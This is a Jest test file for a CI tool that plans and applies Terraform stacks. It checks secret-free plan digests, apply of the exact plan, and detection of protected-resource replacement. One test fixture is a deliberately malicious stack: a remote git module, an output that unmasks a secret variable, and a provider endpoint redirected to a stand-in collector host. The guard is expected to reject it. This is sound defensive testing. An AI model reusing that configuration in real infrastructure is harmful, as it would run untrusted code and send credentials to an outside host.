/**
 * One CI job's share of stacks through real terraform (configurations that need no provider: `terraform_data`):
 * the guard refuses before anything runs, plans are digested without values and their files deleted, apply runs
 * the very plan, and a protected resource that a plan would replace is read from Terraform's own plan JSON.
 */
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { planBatchCommand, type StackRun } from '../ci/plan-batch';
import { runForTest } from './command';
import { destructiveFromPlans } from '../review/plan-digest';

jest.setTimeout(120_000);

/** A cdktf.out-like folder: each stack a `cdk.tf.json`, its local state inside the folder (a fresh state each test). */
function stacksDir(stacks: Record<string, object>): string {
  const outdir = fs.mkdtempSync(path.join(os.tmpdir(), 'plan-batch-stacks-'));
  for (const [stack, resources] of Object.entries(stacks)) writeStack(outdir, stack, resources);
  return outdir;
}

function writeStack(outdir: string, stack: string, body: object): void {
  fs.mkdirSync(path.join(outdir, 'stacks', stack), { recursive: true });
  const json = { terraform: { backend: { local: { path: `../../state-${stack}.tfstate` } } }, ...body };
  fs.writeFileSync(path.join(outdir, 'stacks', stack, 'cdk.tf.json'), JSON.stringify(json));
}

const run = (argv: string[]) => runForTest(planBatchCommand, argv, { env: { PATH: process.env.PATH, HOME: process.env.HOME } });

const result = (results: string, stack: string): StackRun =>
  JSON.parse(fs.readFileSync(path.join(results, 'stacks', `${stack}.json`), 'utf8'));

test('plans each stack of the share, applies that very plan, and reads replacements of protected resources from the plan JSON', async () => {
  const secret = 'not-in-any-result-4242';
  const dir = stacksDir({
    alpha: { resource: { terraform_data: { site: { input: secret, lifecycle: { prevent_destroy: true } } } } },
    beta: { resource: { terraform_data: { note: { input: 'b' } } } },
  });
  const results = fs.mkdtempSync(path.join(os.tmpdir(), 'plan-batch-results-'));
  const applied = await run(['--stacks-dir', dir, '--results', results, '--stacks', 'alpha,beta,gone', '--apply']);
  expect(applied.code).toBe(0);
  expect(result(results, 'alpha')).toMatchObject({
    exitcode: 2,
    digest: { errored: false, changes: [{ address: 'terraform_data.site', action: 'create' }] },
    apply: { exitcode: 0 },
  });
  expect(result(results, 'gone').plan).toContain('stack removed by the change: not planned');
  expect(applied.err).toEqual(
    expect.arrayContaining([
      expect.stringMatching(/^\[\d\/2\] alpha: plan exit 2, apply exit 0 \(init [\d.]+ s, plan [\d.]+ s, show [\d.]+ s, apply [\d.]+ s\)$/),
    ]),
  );
  expect(applied.out).toEqual([expect.stringMatching(/^2 stack\(s\) in [\d.]+ s \([\d.]+ s per stack\), 0 failed$/)]);

  // The pull request changes what forces a replacement of a protected resource: Terraform's plan errs, and says why.
  writeStack(dir, 'alpha', {
    resource: { terraform_data: { site: { input: secret, triggers_replace: 'v2', lifecycle: { prevent_destroy: true } } } },
  });
  const planned = await run(['--stacks-dir', dir, '--results', results, '--stacks', 'alpha']);
  expect(planned.code).toBe(1);
  const alpha = result(results, 'alpha');
  expect(alpha.exitcode).toBe(1);
  expect(alpha.plan).toContain('Instance cannot be destroyed');
  // The job's log says which step failed and why, in terraform's words, and where the whole output is.
  expect(planned.err).toEqual([
    expect.stringMatching(
      new RegExp(
        `^\\[1/1\\] alpha: plan failed \\(exit 1\\): Instance cannot be destroyed; terraform's whole output is in ${results}/stacks/alpha\\.json \\(init [\\d.]+ s, plan [\\d.]+ s, show [\\d.]+ s\\)$`,
      ),
    ),
  ]);
  expect(alpha.digest).toEqual({
    errored: true,
    changes: [
      {
        address: 'terraform_data.site',
        type: 'terraform_data',
        action: 'replace',
        reason: 'replace_because_cannot_update',
        replacePaths: ['triggers_replace'],
      },
    ],
  });
  const destructive = destructiveFromPlans(new Map([['alpha', alpha.digest!]]), new Set(['terraform_data']));
  expect(destructive).toEqual([
    expect.objectContaining({
      stack: 'alpha',
      address: 'terraform_data.site',
      effect: 'replaced',
      forcedBy: [{ argument: 'triggers_replace' }],
    }),
  ]);
  // Intended (decommissioned) destruction is let through.
  expect(
    destructiveFromPlans(new Map([['alpha', alpha.digest!]]), new Set(['terraform_data']), [
      { stack: 'alpha', address: 'terraform_data.site' },
    ]),
  ).toEqual([]);

  // No value of the plan reaches a result; no plan file is left in the stack's folder.
  for (const stack of ['alpha', 'beta']) expect(JSON.stringify(result(results, stack).digest)).not.toContain(secret);
  expect(fs.readdirSync(path.join(dir, 'stacks', 'alpha')).filter((name) => name.endsWith('.tfplan'))).toEqual([]);
});

test('a stack that could run code or read secrets at plan time is refused before terraform runs, with the whole share', async () => {
  const dir = stacksDir({
    fine: { resource: { terraform_data: { a: { input: 'a' } } } },
    sneaky: {
      module: { x: { source: 'git::https://example.invalid/x.git' } },
      output: { leak: { value: '${nonsensitive(var.ovh_x_application_secret)}' } },
      provider: { ovh: [{ alias: 'x', endpoint: 'https://collector.example.invalid/1.0', application_key: 'k' }] },
    },
  });
  const results = fs.mkdtempSync(path.join(os.tmpdir(), 'plan-batch-results-'));
  const { code, err } = await run(['--stacks-dir', dir, '--results', results, '--stacks', 'fine,sneaky']);
  expect(code).toBe(2);
  expect(err).toEqual(
    expect.arrayContaining([
      expect.stringContaining('sneaky: module: not allowed in a stack'),
      expect.stringContaining('sneaky: output.leak.value: calls nonsensitive()'),
      expect.stringContaining('sneaky: output.leak.value: reads a variable'),
      expect.stringContaining("sneaky: provider.ovh[0].endpoint: expected one of OVH's endpoints"),
      expect.stringContaining('sneaky: provider.ovh[0].application_key: expected ${var.ovh_x_application_key}'),
    ]),
  );
  expect(fs.existsSync(path.join(results, 'stacks', 'fine.json'))).toBe(false);
  expect(fs.existsSync(path.join(dir, 'stacks', 'fine', '.terraform'))).toBe(false);
});
